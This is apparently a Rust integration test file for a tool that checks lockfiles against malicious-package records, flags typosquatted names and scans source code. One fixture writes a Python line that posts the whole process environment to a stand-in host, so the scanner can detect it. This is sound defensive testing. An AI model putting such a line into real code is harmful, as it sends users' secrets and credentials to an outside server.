//! `noroshi packages` on the demo's own lockfiles, and what people try first.

use std::fs;
use std::path::Path;
use std::process::{Command, Output, Stdio};
use std::sync::LazyLock;

use serde_json::Value;
use tempfile::TempDir;

struct Ran {
    code: Option<i32>,
    out: String,
    err: String,
}

/// The program in a folder, with nothing of our own environment.
fn run(folder: &Path, args: &[&str]) -> Ran {
    let mut command = Command::new(env!("CARGO_BIN_EXE_noroshi"));
    command.current_dir(folder).args(args).env_clear().env("LC_ALL", "C.UTF-8");
    let Output { status, stdout, stderr } = command.stdin(Stdio::null()).output().expect("starts");
    let text = |bytes| String::from_utf8(bytes).expect("UTF-8");
    Ran { code: status.code(), out: text(stdout), err: text(stderr) }
}

/// The same below `packages`.
fn packages(folder: &Path, args: &[&str]) -> Ran {
    run(folder, &[&["packages"], args].concat())
}

/// What the demo unpacks, with two of its reports kept and the records imported; made once.
static PREPARED: LazyLock<TempDir> = LazyLock::new(|| {
    let folder = tempfile::tempdir().expect("a folder");
    let samples = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../samples");
    copy(&samples.join("estate/packages"), &folder.path().join("packages"));
    fs::create_dir(folder.path().join("reports")).expect("made");
    for name in ["2025-02-05-news-pypi-deepseeek.txt", "2025-02-06-zh-pypi-deepseek.md"] {
        let to = folder.path().join("reports").join(name);
        fs::copy(samples.join("reports").join(name), to).expect("copied");
    }
    assert_eq!(run(folder.path(), &["read", "--keep", "--quiet", "reports"]).code, Some(10));
    let import = packages(folder.path(), &["import", "packages/records.jsonl"]);
    assert_eq!((import.code, import.err.as_str()), (Some(0), ""), "{}", import.out);
    folder
});

/// A copy of what was prepared.
fn demo() -> TempDir {
    let folder = tempfile::tempdir().expect("a folder");
    copy(PREPARED.path(), folder.path());
    folder
}

fn copy(from: &Path, to: &Path) {
    fs::create_dir_all(to).expect("made");
    for entry in fs::read_dir(from).expect("there") {
        let entry = entry.expect("readable");
        let to = to.join(entry.file_name());
        if entry.file_type().expect("known").is_dir() {
            copy(&entry.path(), &to);
        } else {
            fs::copy(entry.path(), to).expect("copied");
        }
    }
}

fn lines(ran: &Ran) -> Vec<Value> {
    ran.out.lines().map(|line| serde_json::from_str(line).expect("one object")).collect()
}

fn check_json(folder: &Path, further: &[&str]) -> (Option<i32>, Vec<Value>) {
    let args = [&["check", "packages", "--format", "json"], further].concat();
    let ran = packages(folder, &args);
    let hits = lines(&ran);
    (ran.code, hits)
}

fn hit<'a>(hits: &'a [Value], purl: &str) -> &'a Value {
    hits.iter().find(|hit| hit["purl"] == purl).unwrap_or_else(|| panic!("no hit on {purl}"))
}

#[test]
fn each_lockfile_line_has_its_verdict() {
    let here = demo();
    let (code, hits) = check_json(here.path(), &["--withdrawn"]);
    assert_eq!(code, Some(10));
    let row = |hit: &Value| {
        let text = |key: &str| hit[key].as_str().unwrap_or_default().to_owned();
        format!(
            "{} {} {}:{} {}",
            text("verdict"),
            text("level"),
            text("file"),
            hit["line"],
            text("purl")
        )
    };
    let mut rows: Vec<String> = hits.iter().map(row).collect();
    rows.sort();
    assert_eq!(
        rows,
        [
            "all-versions now packages/settlement/Cargo.lock:20 pkg:cargo/kzm-quiet@1.0.0",
            "confirmed now packages/fare-gate/requirements.txt:5 pkg:pypi/deepseeek@0.0.8",
            "confirmed now packages/web/package-lock.json:28 pkg:npm/kazemori-fares@1.0.1",
            "disputed soon packages/web/package-lock.json:32 pkg:npm/kzm-harborlight@2.1.3",
            "named know packages/web/package-lock.json:24 pkg:npm/kazemori-fare@3.0.4",
            "other-version know packages/settlement/Cargo.lock:14 pkg:cargo/kzm-ledgerline@0.3.1",
            "possible soon packages/fare-gate/base.txt:3 pkg:pypi/kazemori-tidefmt",
            "withdrawn know packages/web/package-lock.json:36 pkg:npm/kzm-snapgrid@0.9.2",
        ]
    );
    let (_, shown) = check_json(here.path(), &[]);
    assert_eq!(shown.len(), hits.len() - 1, "what was taken back is shown on request only");
    // Only what says something of the version in use is a finding.
    let findings = hits.iter().filter(|hit| !hit["finding"].is_null()).count();
    assert_eq!(findings, 5);
}

#[test]
fn both_explanations_of_deepseeek_stand_side_by_side() {
    let here = demo();
    let (_, hits) = check_json(here.path(), &[]);
    let hit = hit(&hits, "pkg:pypi/deepseeek@0.0.8");
    assert_eq!(hit["source"], "MAL-2025-1970");
    assert_eq!(hit["versions"][0], "0.0.8");
    let about: Vec<&Value> = hit["disagreement"]
        .as_array()
        .expect("a list")
        .iter()
        .filter(|it| it["about"] == "purpose")
        .collect();
    let sides = about[0]["sides"].as_array().expect("a list");
    let holds = |who: &str, what: &str| {
        sides.iter().any(|side| {
            side["who"].as_str().is_some_and(|it| it.contains(who)) && side["holds"] == what
        })
    };
    assert!(holds("kam193", "test") && holds("ミズナラ解析室", "test"), "{sides:#?}");
    let theft =
        sides.iter().find(|side| side["text"].as_str().is_some_and(|it| it.contains("情報窃取")));
    assert_eq!(theft.expect("the other side")["holds"], "harmful");
    // The sentence leads to a kept report, the record to its finders and dates.
    let evidence = hit["evidence"].as_array().expect("a list");
    let record = &evidence.iter().find(|it| it["kind"] == "record").expect("a record")["record"];
    assert_eq!(record["published"], "2024-07-26T16:53:30Z");
    assert!(record["first_seen"].is_string() && record["finders"][1] == "ReversingLabs");
    let sentence =
        evidence.iter().find(|it| it["kind"] == "sentence" && it["verdict"] == "confirmed");
    let sentence = &sentence.expect("the report names the version")["sentence"];
    assert!(
        sentence["path"].as_str().expect("a path").ends_with("2025-02-05-news-pypi-deepseeek.txt")
    );
    assert_eq!(sentence["versions"][0], "0.0.8");
}

#[test]
fn the_imitated_package_and_repositories_are_not_accused() {
    let here = demo();
    let (_, hits) = check_json(here.path(), &[]);
    let own = hit(&hits, "pkg:npm/kazemori-fare@3.0.4");
    assert!(own["finding"].is_null() && own["registry"] == "npm.kazemori.example");
    assert!(
        own["evidence"]
            .as_array()
            .expect("a list")
            .iter()
            .all(|it| it["sentence"]["imitated"] == true)
    );
    let repository = "packages/fare-gate/requirements.txt";
    fs::write(
        here.path().join(repository),
        "git+https://git.kazemori.example/x.git#egg=deepseeek\n",
    )
    .expect("written");
    let ran = packages(here.path(), &["check", repository]);
    assert_eq!((ran.code, ran.out.as_str()), (Some(0), ""));
    assert!(ran.err.contains("1 from repositories or paths"), "{}", ran.err);
}

#[test]
fn findings_are_kept_once_and_go_with_their_line() {
    let here = demo();
    let first = packages(here.path(), &["check", "packages"]);
    assert!(first.err.contains("5 findings (5 new, 0 gone)"), "{}", first.err);
    let again = packages(here.path(), &["check", "packages"]);
    assert!(again.err.contains("5 findings (0 new, 0 gone)"), "{}", again.err);
    let path = here.path().join("packages/fare-gate/requirements.txt");
    let text =
        fs::read_to_string(&path).expect("readable").replace("deepseeek==0.0.8", "idna==3.10");
    fs::write(&path, text).expect("written");
    let mended = packages(here.path(), &["check", "packages"]);
    assert!(mended.err.contains("4 findings (0 new, 1 gone)"), "{}", mended.err);
}

#[test]
fn a_record_that_is_taken_back_drops_out_and_keeps_its_history() {
    let here = demo();
    let records = fs::read_to_string(here.path().join("packages/records.jsonl")).expect("readable");
    let record = records.lines().find(|line| line.contains("MAL-2099-0106")).expect("it is there");
    let back = record.replace(
        "\"modified\":\"2025-02-10T00:00:00Z\"",
        "\"modified\":\"2025-03-10T00:00:00Z\",\"withdrawn\":\"2025-03-10T00:00:00Z\"",
    );
    assert_ne!(record, back);
    fs::write(here.path().join("back.json"), back).expect("written");
    let import = packages(here.path(), &["import", "back.json", "--format", "json"]);
    assert_eq!(lines(&import)[0]["updated"], 1);
    // The older file does not bring it back.
    let older = packages(here.path(), &["import", "packages/records.jsonl", "--format", "json"]);
    assert_eq!(
        (&lines(&older)[0]["updated"], &lines(&older)[0]["unchanged"]),
        (&0.into(), &8.into())
    );
    let (_, hits) = check_json(here.path(), &[]);
    assert!(hits.iter().all(|hit| hit["purl"] != "pkg:cargo/kzm-quiet@1.0.0"));
    let kept =
        packages(here.path(), &["list", "--reported", "cargo:kzm_quiet", "--format", "json"]);
    let record = &lines(&kept)[0]["record"];
    assert_eq!(record["withdrawn"], "2025-03-10T00:00:00Z");
    assert_eq!(record["before"].as_array().expect("a list").len(), 1);
}

#[test]
fn other_forms_hold_the_same_findings() {
    let here = demo();
    let sarif = packages(here.path(), &["check", "packages", "--sarif", "-"]);
    let log: Value = serde_json::from_str(&sarif.out).expect("one object");
    let results = log["runs"][0]["results"].as_array().expect("a list");
    assert_eq!((sarif.code, results.len()), (Some(10), 5));
    let first = &results[0]["locations"][0]["physicalLocation"];
    assert_eq!(first["artifactLocation"]["uri"], "packages/fare-gate/requirements.txt");
    assert_eq!(first["region"]["startLine"], 5);
    let csv = packages(here.path(), &["check", "packages", "--csv", "-"]);
    assert_eq!(csv.out.lines().count(), 1 + 7);
    let list = packages(here.path(), &["list", "packages", "--csv", "-"]);
    assert_eq!(list.code, Some(0));
    assert!(list.out.contains("pkg:cargo/kzm-ledgerline@0.3.1"), "{}", list.out);
    let japanese = packages(here.path(), &["check", "packages", "--lang", "ja"]);
    assert!(
        japanese.out.contains("確認済み") && japanese.out.contains("見解の相違"),
        "{}",
        japanese.out
    );
}

#[test]
fn what_people_try_first_gets_an_answer() {
    let here = tempfile::tempdir().expect("a folder");
    let write = |name: &str, text: &str| fs::write(here.path().join(name), text).expect("written");
    write("requirements.txt", "deepseeek==0.0.8\n");
    let no_store = packages(here.path(), &["check", "requirements.txt"]);
    assert!(no_store.code == Some(2) && no_store.err.contains("fix:"), "{}", no_store.err);
    let nothing = packages(here.path(), &["check", "."]);
    assert_eq!(nothing.code, Some(2));
    write("records.json", "[]");
    let empty = packages(here.path(), &["import", "records.json"]);
    assert_eq!(empty.code, Some(0), "{}", empty.err);
    write("notes.md", "# no records\n");
    let wrong = packages(here.path(), &["import", "notes.md"]);
    assert!(wrong.code == Some(2) && wrong.err.contains("NRS-PACKAGE-010"), "{}", wrong.err);
    let gone = packages(here.path(), &["import", "nope.zip"]);
    assert!(gone.code == Some(2) && gone.err.contains("NRS-FLOW-010"), "{}", gone.err);
    // Without records a lockfile cannot be called clean.
    let without = packages(here.path(), &["check", "requirements.txt"]);
    assert!(without.code == Some(2) && without.err.contains("NRS-FLOW-070"), "{}", without.err);
    write("uv.lock", "[[package]]\nname = ");
    let damaged = packages(here.path(), &["list", "uv.lock"]);
    assert!(damaged.err.contains("NRS-PACKAGE-002"), "{}", damaged.err);
    let typo = packages(here.path(), &["chek", "."]);
    assert!(typo.code == Some(2) && typo.err.contains("check"), "{}", typo.err);
    let help = packages(here.path(), &["check", "--help"]);
    assert!(help.out.contains("Examples:"), "{}", help.out);
}

#[test]
fn a_login_in_a_lockfile_is_not_shown_or_kept() {
    let here = demo();
    let text = "--index-url https://ci:hunter2secret@pypi.kazemori.example/simple\n\
                deepseeek==0.0.8\n\
                x @ https://bot:hunter2secret@files.kazemori.example/x-1.0.tar.gz\n";
    fs::write(here.path().join("requirements.txt"), text).expect("written");
    for args in [
        &["check", "requirements.txt"][..],
        &["check", "requirements.txt", "--format", "json"],
        &["list", "requirements.txt", "--format", "json"],
        &["list", "requirements.txt", "--csv", "-"],
    ] {
        let ran = packages(here.path(), args);
        assert!(!ran.out.contains("hunter2") && !ran.err.contains("hunter2"), "{args:?}");
    }
    for entry in fs::read_dir(here.path()).expect("there") {
        let path = entry.expect("readable").path();
        if path.file_name().is_some_and(|name| name.to_string_lossy().starts_with("noroshi.db")) {
            let bytes = fs::read(&path).expect("readable");
            assert!(!bytes.windows(7).any(|window| window == b"hunter2"), "{}", path.display());
        }
    }
}

#[test]
fn names_like_a_brand_are_flagged_and_say_why() {
    let here = tempfile::tempdir().expect("a folder");
    let args = ["squat", "--brand", "deepseek", "deepseeek", "deepseekai", "numpy"];
    let shown = packages(here.path(), &args);
    assert_eq!(shown.code, Some(10), "{}", shown.err);
    for name in ["deepseeek ~ deepseek", "deepseekai ~ deepseek"] {
        assert!(shown.out.contains(name), "{}", shown.out);
    }
    assert!(!shown.out.contains("numpy"), "{}", shown.out);
    let json = packages(here.path(), &[&args[..], &["--format", "json"]].concat());
    let rows = lines(&json);
    let row = |row: &Value| {
        let of = row["of"].as_str().unwrap_or("-");
        format!("{} {of} {}", row["name"].as_str().unwrap_or("-"), row["flagged"])
    };
    let got: Vec<String> = rows.iter().map(row).collect();
    assert_eq!(
        got,
        ["deepseeek deepseek true", "deepseekai deepseek true", "numpy - false"],
        "{}",
        json.out
    );
    for row in &rows[..2] {
        assert!(row["operation"].is_string() && row["why"] == "brand", "{row}");
        assert!(row["score"].as_f64().is_some_and(|it| (0.0..=1.0).contains(&it)), "{row}");
    }
}

#[test]
fn names_come_from_lists_and_lockfiles_with_their_lines() {
    let here = tempfile::tempdir().expect("a folder");
    let write = |name: &str, text: &str| fs::write(here.path().join(name), text).expect("written");
    write("top.csv", "rank,name\n1,requests\n2,numpy\n");
    write("names.txt", "# asked for\nreqeusts\nnumpy\n");
    let list = packages(here.path(), &["squat", "--protected", "top.csv", "names.txt"]);
    assert_eq!(list.code, Some(10), "{}", list.err);
    assert!(list.out.contains("reqeusts ~ requests"), "{}", list.out);
    write("requirements.txt", "numpy==2.0\nreqeusts==1.0\nkazemori-fare==9.0\n");
    let used = ["squat", "--protected", "top.csv", "--used", "requirements.txt"];
    let used = packages(here.path(), &[&used[..], &["--private", "kazemori-"]].concat());
    assert_eq!(used.code, Some(10), "{}", used.err);
    assert!(used.out.contains("requirements.txt:2"), "{}", used.out);
    assert!(used.out.contains("pkg:pypi/kazemori-fare@9.0"), "{}", used.out);
}

#[test]
fn what_people_try_first_with_names_gets_an_answer() {
    let here = tempfile::tempdir().expect("a folder");
    let fails = |args: &[&str], word: &str| {
        let ran = packages(here.path(), &[&["squat"], args].concat());
        assert!(ran.code == Some(2) && ran.err.contains(word), "{args:?}: {}{}", ran.out, ran.err);
    };
    fails(&["requests"], "NRS-FLOW-072");
    fails(&["--brand", "x", "."], "NRS-FLOW-073");
    fails(&["--brand", "x", "nmaes.txt"], "NRS-FLOW-073");
    fails(&["--protected", "nope.csv", "requests"], "NRS-FLOW-010");
    fails(&["--brand", "x", "--ecosystem", "pypy", "requests"], "pypi");
    fails(&["--brand", "x"], "NAMES");
    fs::write(here.path().join("empty.txt"), "").expect("written");
    let empty = packages(here.path(), &["squat", "--brand", "deepseek", "empty.txt"]);
    assert_eq!((empty.code, empty.out.as_str()), (Some(0), ""), "{}", empty.err);
}

#[test]
fn source_on_disk_is_read_and_may_be_accepted() {
    let here = tempfile::tempdir().expect("a folder");
    let write = |name: &str, text: &str| fs::write(here.path().join(name), text).expect("written");
    write(
        "client.py",
        "import os\nimport requests\nrequests.post('https://c.example', json=dict(os.environ))\n",
    );
    write("honest.py", "import os\nprint(os.environ['HOME'])\n");
    let shown = packages(here.path(), &["scan", "."]);
    assert_eq!(shown.code, Some(10), "{}", shown.err);
    assert!(shown.out.contains("client.py:3") && !shown.out.contains("honest"), "{}", shown.out);
    let rows = lines(&packages(here.path(), &["scan", ".", "--format", "json"]));
    assert_eq!(rows.len(), 1, "{rows:?}");
    let (row, hash) = (&rows[0], rows[0]["sha256"].as_str().expect("a hash").to_owned());
    assert!(row["rule"] == "environment-to-network" && row["grade"] == "high", "{row}");
    let accept = |until: &str| {
        let entry = format!(
            "[[accept]]\nsha256 = \"{hash}\"\nrule = \"environment-to-network\"\nreason = \"ours\"\nuntil = \"{until}\"\n"
        );
        write("accepted.toml", &entry);
        packages(here.path(), &["scan", ".", "--accept", "accepted.toml"])
    };
    let accepted = accept("2999-01-01");
    assert!(accepted.code == Some(0) && accepted.out.contains("ours"), "{}", accepted.out);
    let over = accept("2020-01-01");
    assert_eq!(over.code, Some(10), "{}{}", over.out, over.err);
}

#[test]
fn what_people_try_first_with_source_gets_an_answer() {
    let here = tempfile::tempdir().expect("a folder");
    let write = |name: &str, text: &[u8]| fs::write(here.path().join(name), text).expect("written");
    let nothing = packages(here.path(), &["scan", "."]);
    assert!(nothing.code == Some(2) && nothing.err.contains("fix:"), "{}", nothing.err);
    let gone = packages(here.path(), &["scan", "nope"]);
    assert!(gone.code == Some(2) && gone.err.contains("NRS-FLOW-010"), "{}", gone.err);
    write("empty.py", b"");
    let empty = packages(here.path(), &["scan", "empty.py"]);
    assert_eq!((empty.code, empty.out.as_str()), (Some(0), ""), "{}", empty.err);
    write("large.js", &b"a = 1;\n".repeat(1_300_000));
    let large = packages(here.path(), &["scan", "large.js"]);
    assert!(large.err.contains("NRS-PACKAGE-020"), "{}", large.err);
    let grade = packages(here.path(), &["scan", ".", "--grade", "hihg"]);
    assert!(grade.code == Some(2) && grade.err.contains("high"), "{}", grade.err);
    write("broken.toml", b"[[accept]\n");
    let broken = packages(here.path(), &["scan", "empty.py", "--accept", "broken.toml"]);
    assert!(broken.err.contains("NRS-PACKAGE-"), "{}", broken.err);
}
